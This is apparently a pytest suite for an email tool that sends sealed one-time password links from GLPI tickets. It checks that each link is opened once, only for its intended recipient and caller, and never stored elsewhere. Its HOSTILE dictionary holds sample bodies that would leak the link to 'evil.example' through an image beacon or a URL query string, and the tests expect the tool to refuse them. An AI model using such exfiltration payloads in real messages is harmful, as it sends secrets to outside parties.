"""Sealed links in mails: opened for the recipient they were made for, once, and left nowhere but in the mail."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from shared.errors import Refused
from shared.mcp_tokens import token_entry
from shared.mcp_tool import Call
from shared.redis_helper import RedisHelper
from shared.sealed import Purpose, Seals
from tests.servers.glpi_world import PRINTER_TICKET, World, open_world
from tests.system import SEAL_KEY, TOKEN

pytestmark = pytest.mark.asyncio(loop_scope="module")

LINK = "https://secret.widip.example/p/abc-canary-123/r"
CLAIRE = "c.oria@lilas.example"
TEXT = "Bonjour,\n\nvotre mot de passe : {}\n"
HOSTILE = {
    "a picture that tells it": '<p>Bonjour <img src="https://evil.example/x?u={}"></p>',
    "a link of its own": '<p><a href="{}">ici</a></p>',
    "a part of another address": "Bonjour,\nhttps://evil.example/x?u={}\n",
    "glued to a word": "Lien:{}",
    "glued to what follows": "Lien : {}/r",
    "once alone and once glued": "Lien : {0} ou https://evil.example/{0}",
}
QUEUE = "POST /apirest.php/QueuedNotification"


async def seal(port: int, *, recipient: str = CLAIRE, caller: str = "orchestrator", key: str = "run-1:push") -> str:
    """A link as the MySecret server seals it."""
    async with RedisHelper(f"redis://127.0.0.1:{port}/0") as redis:
        call = Call(caller=caller, idempotency_key=key)
        sealed = await Seals(redis, SEAL_KEY).seal(call, SecretStr(LINK), purpose=Purpose.LINK, subject=recipient)
    return sealed.reference


def mail(body: str, **changes: Any) -> dict[str, Any]:
    return {"recipient": CLAIRE, "subject": "Accès", "body": body, "ticket_id": PRINTER_TICKET} | changes


@pytest.mark.requirement("S-06")
async def test_a_sealed_link_is_in_the_mail_and_nowhere_else(glpi: World, redis_port: int) -> None:
    reference = await seal(redis_port)

    sent = await glpi.reply("send_email", key="mail", **mail(TEXT.format(reference)))

    row = glpi.real("queued", sent.data["email_id"])
    assert row["body_text"].count(LINK) == 1
    assert row["body_html"].count(LINK) == 1
    assert "sealed:" not in row["body_html"] + row["body_text"]
    assert LINK not in sent.text
    assert not [f for f in glpi.state.followups.values() if "abc-canary" in f["content"]]
    async with RedisHelper(f"redis://127.0.0.1:{redis_port}/0") as redis:
        keys = await redis.run("return redis.call('keys', 'widip:*')", [], [])
        assert "abc-canary" not in "".join([str(await redis.get(key)) for key in keys if "cap" not in key])


@pytest.mark.requirement("S-06")
@pytest.mark.parametrize(
    ("sealed", "sent", "why"),
    [
        ({"recipient": "p.autre@lilas.example"}, {}, "somebody else"),
        ({"caller": "desk"}, {}, "another caller"),
        ({}, {"body": "sealed:link:" + "A" * 32}, "not known here"),
    ],
)
async def test_a_link_that_is_not_this_recipients_stops_the_mail(
    glpi: World, redis_port: int, sealed: dict[str, str], sent: dict[str, str], why: str
) -> None:
    reference = await seal(redis_port, **({"key": f"run-{why}"} | sealed))
    before = len(glpi.state.queued)

    with pytest.raises(Refused, match=why):
        await glpi.call("send_email", key=f"mail-{why}", **(mail(TEXT.format(reference)) | sent))

    assert len(glpi.state.queued) == before


@pytest.mark.requirement("S-08")
@pytest.mark.parametrize("how", HOSTILE)
async def test_a_body_that_would_tell_the_link_to_somebody_else_stops_the_mail(
    glpi: World, redis_port: int, how: str
) -> None:
    reference = await seal(redis_port, key=f"run-{how}")
    before = len(glpi.state.queued)

    with pytest.raises(Refused, match=r"plain text|between blanks|not known here"):
        await glpi.call("send_email", key=f"mail-{how}", **mail(HOSTILE[how].format(reference)))

    assert len(glpi.state.queued) == before
    sent = await glpi.call("send_email", key=f"mail-{how}-after", **mail(TEXT.format(reference)))
    assert LINK in glpi.real("queued", sent["email_id"])["body_text"]


@pytest.mark.requirement("S-08")
async def test_a_token_that_may_write_anywhere_opens_no_link(clean_redis_port: int, tmp_path: Path) -> None:
    tokens = tmp_path / "anywhere.toml"
    tokens.write_text(token_entry("orchestrator", TOKEN, ["read", "write"]))
    async with open_world(clean_redis_port, tmp_path, tokens_file=tokens) as glpi:
        reference = await seal(clean_redis_port, key="run-anywhere")

        with pytest.raises(Refused, match="names no recipient_domains"):
            await glpi.call("send_email", key="mail-anywhere", **mail(TEXT.format(reference)))


@pytest.mark.requirement("S-06")
async def test_a_link_that_was_sent_is_not_sent_again_in_another_mail(glpi: World, redis_port: int) -> None:
    reference = await seal(redis_port, key="run-twice")
    await glpi.call("send_email", key="mail-first", **mail(TEXT.format(reference)))

    with pytest.raises(Refused, match="used already"):
        await glpi.call("send_email", key="mail-second", **mail(TEXT.format(reference)))


@pytest.mark.requirement("S-06")
async def test_a_mail_that_failed_may_open_its_link_again_under_the_same_key(glpi: World, redis_port: int) -> None:
    reference = await seal(redis_port, key="run-again")
    asked = mail(TEXT.format(reference))
    glpi.faults.add("error", QUEUE, status=400, body='["ERROR_GLPI_ADD","Erreur"]')

    with pytest.raises(Exception, match=r".+"):
        await glpi.call("send_email", key="mail-again", **asked)
    sent = await glpi.call("send_email", key="mail-again", **asked)

    assert LINK in glpi.real("queued", sent["email_id"])["body_text"]
